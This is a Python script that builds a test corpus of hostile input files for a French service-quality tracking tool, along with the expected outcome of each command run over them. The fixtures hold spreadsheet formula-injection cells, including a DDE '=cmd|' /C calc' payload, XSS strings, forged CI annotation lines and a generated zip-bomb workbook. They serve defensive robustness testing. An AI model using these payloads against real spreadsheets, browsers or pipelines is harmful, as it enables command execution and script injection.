"""Builds the corpus of hostile files: what a careless export, a prank or an attack hands over.

Run ``python tests/data/hostile/build.py`` to rewrite the committed files; the tests build
them again and check that the committed ones are the same bytes (every archive is written
with fixed dates, so the build is reproducible).

``CASES`` lists the commands run over the corpus, each with the exit status the docs
promise (0 done, 1 rows or definitions rejected, 2 a bad call or an unreadable file) and
a fragment of the message it must print. In a command, ``{file}`` is the corpus file,
``{out}`` a fresh folder for outputs, ``{corpus}`` this folder. ``test_hostile_files.py``
runs them all and checks that no input changed, and that no traceback and no « erreur
inattendue » (the guard kept for bugs) was printed.
"""

from __future__ import annotations

import io
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple
from xml.sax.saxutils import escape

FOLDER = Path(__file__).parent
HEADER = "Date de réception;Canal;Objet;Date de réponse\n"
MEASURES = "indicateur;periode;composante;valeur;echantillon;observation\n"
_STAMP = (2022, 1, 1, 0, 0, 0)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_NOISE = bytes((k * 197 + 89) % 256 for k in range(2048))  # every byte value, no text


class Case(NamedTuple):
    """A command over one corpus file, and what it must answer."""

    file: str
    command: tuple[str, ...]
    status: int
    fragment: str
    """A part of what it prints (standard output and error together)."""
    written: str = ""
    """A part of what it writes in ``{out}``, when it must write something."""


# Cells a spreadsheet would run, and text a browser or a CI log would interpret.
_FORMULAS = (
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SOMME(A1:A9)",
    "\tTAB",
    "\rCR",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "| colonne | forgée |",
    "ligne\n::error file=x.toml::forgée",
)


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _tracking_rows(objects: Iterator[str] | tuple[str, ...]) -> str:
    return "".join(
        f"{day:02d}/01/2022 09:00;courriel;{_csv_cell(text)};{day + 1:02d}/01/2022 10:00\n"
        for day, text in enumerate(objects, start=3)
    )


def _xlsx(sheets: dict[str, list[list[object]]], *, pad: int = 0) -> bytes:
    """A minimal workbook, written by hand so that its bytes never change.

    A cell is text (an inline string), a number, or ``("=", formula)``. ``pad`` adds that
    many spaces inside the first sheet (a workbook that inflates).
    """
    names = list(sheets)
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            + "".join(
                f'<Override PartName="/xl/worksheets/sheet{k}.xml" ContentType="application/'
                'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                for k in range(1, len(names) + 1)
            )
            + "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            "<sheets>"
            + "".join(
                f'<sheet name="{escape(name)}" sheetId="{k}" r:id="rId{k}"/>'
                for k, name in enumerate(names, 1)
            )
            + "</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(
                f'<Relationship Id="rId{k}" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/worksheet" '
                f'Target="worksheets/sheet{k}.xml"/>'
                for k in range(1, len(names) + 1)
            )
            + "</Relationships>"
        ),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(zipfile.ZipInfo(name, _STAMP), text, zipfile.ZIP_DEFLATED)
        for k, rows in enumerate(sheets.values(), 1):
            info = zipfile.ZipInfo(f"xl/worksheets/sheet{k}.xml", _STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=pad > 0) as stream:
                stream.write(
                    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                    b'main"><sheetData>'
                )
                chunk = b" " * 2**20
                for _ in range(pad if k == 1 else 0):
                    stream.write(chunk)
                for number, cells in enumerate(rows, 1):
                    stream.write(_row(number, cells).encode("utf-8"))
                stream.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def _row(number: int, cells: list[object]) -> str:
    out = []
    for column, cell in enumerate(cells):
        where = f"{chr(ord('A') + column)}{number}"
        if isinstance(cell, tuple):
            out.append(f'<c r="{where}"><f>{escape(str(cell[1]))}</f></c>')
        elif isinstance(cell, int | float):
            out.append(f'<c r="{where}"><v>{cell}</v></c>')
        else:
            text = escape(str(cell)).replace("\r", "&#13;").replace("\t", "&#9;")
            out.append(
                f'<c r="{where}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'
            )
    return f'<row r="{number}">{"".join(out)}</row>'


def _tracking_book() -> list[list[object]]:
    rows: list[list[object]] = [["Date de réception", "Canal", "Objet", "Date de réponse"]]
    for day, text in enumerate(_FORMULAS, start=3):
        rows.append([f"{day:02d}/01/2022", "courriel", text, f"{day + 1:02d}/01/2022"])
    rows.append(["20/01/2022", "courriel", ("=", "1+1"), "21/01/2022"])
    return rows


def _lying(book: bytes) -> bytes:
    """``book`` whose sheet says, in both zip directories, that it holds 2 000 bytes."""
    archive = zipfile.ZipFile(io.BytesIO(book))
    real = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    return book.replace(real.to_bytes(4, "little"), (2000).to_bytes(4, "little"))


def _cut_sheet(book: bytes) -> bytes:
    """``book`` whose sheet stops in the middle of a tag (a sound archive, broken XML)."""
    source = zipfile.ZipFile(io.BytesIO(book))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            data = source.read(item.filename)
            archive.writestr(item, data[:300] if "sheet1" in item.filename else data)
    return buffer.getvalue()


def _measures(*rows: str) -> str:
    return MEASURES + "".join(row + "\n" for row in rows)


def contents() -> dict[str, bytes]:
    """Each file of the corpus: its name and its bytes."""
    return {
        # tracking files
        "suivi-formules.csv": (HEADER + _tracking_rows(_FORMULAS)).encode(),
        "suivi-formules.xlsx": _xlsx({"Janvier": _tracking_book()}),
        "suivi-utf16.csv": (HEADER + _tracking_rows(("Horaires", "Titre"))).encode("utf-16"),
        "suivi-cr.csv": (
            (HEADER + _tracking_rows(("Horaires", "Titre"))).replace("\n", "\r").encode()
        ),
        "suivi-binaire.csv": _NOISE,
        "suivi-vide.csv": b"",
        "suivi-nul.csv": (HEADER + "03/01/2022;courriel;a\0b;04/01/2022\n").encode(),
        "suivi-deux-receptions.csv": (
            "Date de réception;Canal;Date de réception;Date de réponse\n"
            "03/01/2022;courriel;05/01/2022;06/01/2022\n"
        ).encode(),
        "suivi-ligne-longue.csv": (
            HEADER + "03/01/2022;courriel;Objet;04/01/2022;en trop;encore\n"
        ).encode(),
        "suivi-horodatages-extremes.csv": (
            HEADER
            + "9999-12-31T23:59:59+14:00;courriel;fin des temps;\n"
            + "0001-01-01T00:00:00-05:00;courriel;début des temps;03/01/2022\n"
            + "03/01/2022;courriel;réponse extrême;9999-12-31T23:59:59-14:00\n"
        ).encode(),
        "suivi-an-2100.csv": (HEADER + "03/01/2022;courriel;Titre;03/01/2100\n").encode(),
        "suivi-chiffres-geants.csv": (
            HEADER + "9" * 400 + ";courriel;Titre;" + "1" * 400 + "\n"
        ).encode(),
        # workbooks that are not what they say
        "classeur-tronque.xlsx": _xlsx({"Janvier": _tracking_book()})[:700],
        "classeur-chiffre.xlsx": _OLE + bytes(504) + _NOISE,
        "classeur-pas-un-zip.xlsx": b"Date de r\xc3\xa9ception;Canal\n03/01/2022;courriel\n",
        "classeur-vide.xlsx": b"",
        "classeur-feuille-coupee.xlsx": _cut_sheet(_xlsx({"Janvier": _tracking_book()})),
        "classeur-bombe.xlsx": _xlsx({"Janvier": _tracking_book()}, pad=520),
        "classeur-mensonge.xlsx": _lying(_xlsx({"Janvier": _tracking_book()}, pad=20)),
        # measurements
        "mesures-taux-90.csv": _measures("appels_aboutis;2022-T1;;90;;").encode(),
        "mesures-chiffres-geants.csv": _measures("copil;2022;;" + "9" * 400 + ";;").encode(),
        "mesures-contradiction.csv": _measures(
            "courriels_info_5j;2022-01;courriels_info_recus;173;;",
            "courriels_info_5j;2022-01;courriels_info_dans_le_delai;150;;",
            "courriels_info_5j;2022-T1;courriels_info_recus;100;;",
            "courriels_info_5j;2022-T1;courriels_info_dans_le_delai;90;;",
        ).encode(),
        "mesures-injection.csv": _measures(
            *(f"copil;2022-T{1 + k % 4};;1;;{_csv_cell(text)}" for k, text in enumerate(_FORMULAS))
        ).encode(),
        "mesures-utf16.csv": _measures("copil;2022-T1;;2;;").encode("utf-16"),
        "mesures-binaire.csv": _NOISE,
        # definitions
        "definitions-imbriquees.toml": ("x = " + "[" * 5000 + "]" * 5000 + "\n").encode(),
        "definitions-cle-forgee.toml": (
            '[perimeter]\nmodules = [1]\n\n[targets]\n"x\\n::error file=y.toml::forgée" = 0.5\n'
        ).encode(),
        "definitions-nombre-geant.toml": (
            '[perimeter]\nmodules = [1]\n\n[[indicator]]\nid = "geant"\nlabel = "Géant"\n'
            'engagement = 1\nunit = "count"\ndirection = "higher_is_better"\n'
            'periodicity = "yearly"\nformula = "copil_reunions * ' + "9" * 400 + '"\n'
        ).encode(),
        "definitions-binaire.toml": _NOISE,
        "definitions-utf16.toml": "[perimeter]\nmodules = [1]\n".encode("utf-16"),
        # plan d'amélioration
        "plan-formules.csv": (
            "N°;Action;Module;Statut;Échéance;Pilote;Engagement\n"
            + "".join(
                f"{k};{_csv_cell(text)};1;à faire;01/01/2022;{_csv_cell(text)};\n"
                for k, text in enumerate(_FORMULAS, start=1)
            )
            + f"90;Géant;{'9' * 400};fait;;;\n91;Lointain;1;à faire;01/01/10000;;\n"
            + f"92;Engagement géant;1;à faire;;;{'9' * 400}\n"
            + "93;=cmd|' /C calc'!A0;x;à faire;;;\n"
        ).encode(),
        # training register
        "formations-formules.csv": (
            "Agent;Service;Rôle;Prise de poste;Dernière formation;Début du tutorat\n"
            + "".join(
                f"{_csv_cell(text)};{_csv_cell(text)};accueil;01/0{1 + k % 9}/2021;;15/10/2021\n"
                for k, text in enumerate(_FORMULAS)
            )
            + "Géant;S;accueil;01/01/10000;;\nLointain;S;accueil;;;01/01/2021\n"
            + f"Chiffres;S;{'9' * 400};01/01/2021;;\n"
        ).encode(),
        # survey answers and their definitions
        "enquete-formules.csv": (
            "Date;Accueil;Attente\n"
            + "".join(
                f"0{1 + k % 9}/01/2022;{_csv_cell(text)};satisfait\n"
                for k, text in enumerate(_FORMULAS)
            )
            + "01/01/2022;Très satisfait;sans avis\n"
        ).encode(),
        "enquete-definitions.toml": (
            b'[perimeter]\nmodules = [1]\n\n[[survey.question]]\ncolumn = "Accueil"\n'
            b'id = "accueil"\nlabel = "<script>alert(1)</script>"\n\n[[survey.question]]\n'
            b'column = "Attente"\nid = "attente"\n'
        ),
        # pilotage register
        "pilotage-formules.csv": (
            "Date;Obligation;Observation\n"
            + "".join(
                f"1{k % 9}/03/2022;COPIL;{_csv_cell(text)}\n" for k, text in enumerate(_FORMULAS)
            )
            + "01/01/10000;CLU;an dix mille\n31/02/2022;CLU;\n01/03/2022;=cmd|' /C calc'!A0;\n"
        ).encode(),
        # closures
        "fermetures-utf16.csv": "date;libelle\n26/12/2022;Pont\n".encode("utf-16"),
        "fermetures-binaire.csv": _NOISE,
        "fermetures-impossibles.csv": (
            "date;libelle\n31/02/2022;Trente et un février\n01/01/10000;An dix mille\n"
        ).encode(),
    }


_TRACK = ("track", "{file}", "-d", "44", "--as-of", "2022-12-31", "-o", "{out}/delais.csv")
_DASHBOARD = ("dashboard", "{file}", "-y", "2022")
_CALENDAR = ("calendar", "-y", "2022", "--closures", "{file}")
_PLAN = ("plan", "{file}", "--as-of", "2022-12-31")
_FORMATIONS = ("formations", "{file}", "--as-of", "2022-01-01")
_ECHEANCIER = ("echeancier", "--definitions", "{corpus}/enquete-definitions.toml",
               "--as-of", "2022-12-31", "--pilotage", "{file}")  # fmt: skip
_ENQUETE = ("enquete", "{file}", "--definitions", "{corpus}/enquete-definitions.toml")
_READ = "fichier lu"
_ENCODING = "ni en UTF-8 ni en Windows-1252"
_NESTED = (
    "imbriqués trop profondément"  # an output naming an input is refused before anything is read
)

CASES: tuple[Case, ...] = (
    Case("suivi-formules.csv", _TRACK, 0, "lignes lues : 11 = 11", "'=HYPERLINK("),
    Case("suivi-formules.xlsx", _TRACK, 0, "lignes lues : 12 = 12", "'=cmd|"),
    Case("suivi-utf16.csv", _TRACK, 0, "lignes lues : 2 = 2", "Horaires"),
    Case("suivi-cr.csv", _TRACK, 0, "lignes lues : 2 = 2", "Titre"),
    Case("suivi-binaire.csv", _TRACK, 2, _ENCODING),
    Case("suivi-vide.csv", _TRACK, 2, "vide"),
    Case("suivi-nul.csv", _TRACK, 0, "lignes lues : 1 = 1"),
    Case("suivi-deux-receptions.csv", _TRACK, 0, "Date de réception"),
    Case("suivi-ligne-longue.csv", _TRACK, 0, "à droite de la dernière colonne nommée"),
    Case("suivi-horodatages-extremes.csv", _TRACK, 1, "hors de la période connue"),
    Case("suivi-an-2100.csv", _TRACK, 0, "250 jours ouvrés"),
    Case("suivi-chiffres-geants.csv", _TRACK, 1, "rejetée"),
    Case("classeur-tronque.xlsx", _TRACK, 2, "illisible"),
    Case("classeur-chiffre.xlsx", _TRACK, 2, "mot de passe"),
    Case("classeur-pas-un-zip.xlsx", _TRACK, 2, "illisible"),
    Case("classeur-vide.xlsx", _TRACK, 2, "illisible"),
    Case("classeur-bombe.xlsx", _TRACK, 2, "trop gros une fois décompressé"),
    Case("classeur-feuille-coupee.xlsx", _TRACK, 2, "[Janvier] : feuille illisible"),
    Case("classeur-feuille-coupee.xlsx", _DASHBOARD, 2, "QM003"),
    Case("classeur-mensonge.xlsx", _DASHBOARD, 2, "QM003"),
    Case("classeur-mensonge.xlsx", _TRACK, 2, "illisible"),
    Case("suivi-formules.csv", ("track", "{file}", "-d", "44", "-o", "{file}"), 2, _READ),
    Case("suivi-formules.csv", (*_TRACK, "--rejects", "{file}"), 2, _READ),
    Case("suivi-formules.csv", (*_TRACK, "--measurements", "{file}"), 2, _READ),
    Case("suivi-formules.xlsx", ("track", "{file}", "-d", "44", "-o", "{file}"), 2, _READ),
    Case(
        "suivi-formules.csv",
        (*_TRACK, "--closures", "{corpus}/fermetures-binaire.csv"),
        2,
        _ENCODING,
    ),
    Case(  # a closures file named as the output: refused before anything is read
        "fermetures-utf16.csv",
        ("track", "{corpus}/suivi-cr.csv", "-d", "44", "--closures", "{file}", "-o", "{file}"),
        2,
        _READ,
    ),
    Case(
        "definitions-utf16.toml",
        (
            "track",
            "{corpus}/suivi-cr.csv",
            "-d",
            "44",
            "--definitions",
            "{file}",
            "--measurements",
            "{file}",
        ),
        2,
        _READ,
    ),
    Case("mesures-taux-90.csv", _DASHBOARD, 1, "voulez-vous dire 90 %"),
    Case("mesures-chiffres-geants.csv", _DASHBOARD, 1, "nombre hors des bornes"),
    Case("mesures-contradiction.csv", _DASHBOARD, 1, "QM206"),
    Case("mesures-injection.csv", (*_DASHBOARD, "-o", "{out}/t.md"), 0, "", "&lt;script&gt;"),
    Case("mesures-injection.csv", (*_DASHBOARD, "-o", "{out}/t.csv"), 0, "", "\"'=HYPERLINK("),
    Case("mesures-injection.csv", (*_DASHBOARD, "-o", "{out}/t.html"), 0, "", "&lt;img"),
    Case("mesures-injection.csv", (*_DASHBOARD, "-o", "{file}"), 2, _READ),
    Case("mesures-utf16.csv", _DASHBOARD, 0, "COPIL"),
    Case("mesures-binaire.csv", _DASHBOARD, 2, "QM002"),
    Case("classeur-bombe.xlsx", _DASHBOARD, 2, "trop gros une fois décompressé"),
    Case("classeur-chiffre.xlsx", _DASHBOARD, 2, "QM003"),
    Case("classeur-tronque.xlsx", _DASHBOARD, 2, "QM003"),
    Case("definitions-imbriquees.toml", ("validate", "{file}"), 1, _NESTED),
    Case("definitions-cle-forgee.toml", ("validate", "{file}"), 1, "\\n::error"),
    Case("definitions-cle-forgee.toml", ("validate", "--format", "github", "{file}"), 1, "%0A"),
    Case("definitions-nombre-geant.toml", ("validate", "{file}"), 1, "QP"),
    Case("definitions-binaire.toml", ("validate", "{file}"), 2, "QP002"),
    Case("definitions-utf16.toml", ("validate", "{file}"), 2, "encodé en UTF-16"),
    Case("definitions-imbriquees.toml", (*_DASHBOARD, "--definitions", "{file}"), 1, _NESTED),
    Case("definitions-binaire.toml", ("check", "--definitions", "{file}", "{corpus}"), 2, "QP002"),
    Case(
        "mesures-contradiction.csv",
        ("check", "--definitions", "{corpus}/definitions-utf16.toml", "{file}"),
        2,
        "QM206",
    ),
    Case("plan-formules.csv", (*_PLAN, "-o", "{out}/p.md"), 1, "4 rejetée(s)", "&lt;script&gt;"),
    Case("plan-formules.csv", (*_PLAN, "--rejects", "{out}/r.csv"), 1, "module inconnu", "'=cmd|"),
    Case("plan-formules.csv", (*_PLAN, "-o", "{out}/p.csv"), 1, "", "Module 1"),
    Case("plan-formules.csv", (*_PLAN, "--rejects", "{file}"), 2, _READ),
    Case("plan-formules.csv", (*_PLAN, "--measurements", "{file}"), 2, _READ),
    Case("suivi-binaire.csv", _PLAN, 2, _ENCODING),
    Case("suivi-utf16.csv", _PLAN, 2, "colonne « Action » absente"),
    Case("classeur-bombe.xlsx", _PLAN, 2, "trop gros une fois décompressé"),
    Case("classeur-chiffre.xlsx", _PLAN, 2, "mot de passe"),
    Case("classeur-tronque.xlsx", _PLAN, 2, "illisible"),
    Case(
        "formations-formules.csv",
        (*_FORMATIONS, "-o", "{out}/f.csv", "--report", "{out}/t.md"),
        1,
        "3 rejetée(s)",
        "&lt;script&gt;",
    ),
    Case("formations-formules.csv", (*_FORMATIONS, "-o", "{out}/f.csv"), 1, "", "'=cmd|"),
    Case("formations-formules.csv", (*_FORMATIONS, "-o", "{file}"), 2, _READ),
    Case("formations-formules.csv", (*_FORMATIONS, "--report", "{file}"), 2, _READ),
    Case("suivi-binaire.csv", _FORMATIONS, 2, _ENCODING),
    Case("classeur-bombe.xlsx", _FORMATIONS, 2, "trop gros une fois décompressé"),
    Case("classeur-chiffre.xlsx", _FORMATIONS, 2, "mot de passe"),
    Case(
        "enquete-formules.csv",
        (*_ENQUETE, "-o", "{out}/r.md"),
        1,
        "réponse illisible",
        "&lt;script&gt;",
    ),
    Case("enquete-formules.csv", (*_ENQUETE, "-o", "{out}/r.csv"), 1, "", "'=HYPERLINK("),
    Case("enquete-formules.csv", (*_ENQUETE, "-o", "{file}"), 2, _READ),
    Case(
        "enquete-formules.csv",
        (*_ENQUETE, "--previous", "{corpus}/suivi-binaire.csv"),
        2,
        _ENCODING,
    ),
    Case("suivi-binaire.csv", _ENQUETE, 2, _ENCODING),
    Case("enquete-definitions.toml", ("validate", "{file}"), 0, "valide"),
    Case("suivi-utf16.csv", _ENQUETE, 2, "colonne « Accueil » absente"),
    Case("classeur-bombe.xlsx", _ENQUETE, 2, "trop gros une fois décompressé"),
    Case(
        "definitions-binaire.toml",
        ("mystere", "{corpus}/suivi-cr.csv", "--definitions", "{file}"),
        2,
        "QP002",
    ),
    Case("pilotage-formules.csv", (*_ECHEANCIER, "-o", "{out}/e.txt"), 1, "3 rejetée(s)", "COPIL"),
    Case(
        "pilotage-formules.csv",
        (*_ECHEANCIER, "-o", "{out}/e.ics"),
        1,
        "obligation inconnue",
        "BEGIN:VCALENDAR",
    ),
    Case("pilotage-formules.csv", (*_ECHEANCIER, "--rejects", "{out}/r.csv"), 1, "", "'=cmd|"),
    Case("pilotage-formules.csv", (*_ECHEANCIER, "-o", "{file}"), 2, _READ),
    Case("suivi-binaire.csv", _ECHEANCIER, 2, _ENCODING),
    Case("classeur-bombe.xlsx", _ECHEANCIER, 2, "trop gros une fois décompressé"),
    Case("fermetures-utf16.csv", _CALENDAR, 0, "Pont"),
    Case("fermetures-binaire.csv", _CALENDAR, 2, _ENCODING),
    Case("fermetures-impossibles.csv", _CALENDAR, 2, "31/02/2022"),
    Case(
        "fermetures-impossibles.csv",
        ("delay", "2022-01-03", "--days", "5", "--closures", "{file}"),
        2,
        "31/02/2022",
    ),
)


def build(folder: Path = FOLDER) -> list[Path]:
    """Write every file of the corpus into ``folder``; the paths written."""
    written = []
    for name, content in contents().items():
        path = folder / name
        path.write_bytes(content)
        written.append(path)
    return written


if __name__ == "__main__":
    for path in build(Path(sys.argv[1]) if len(sys.argv) > 1 else FOLDER):
        print(path)
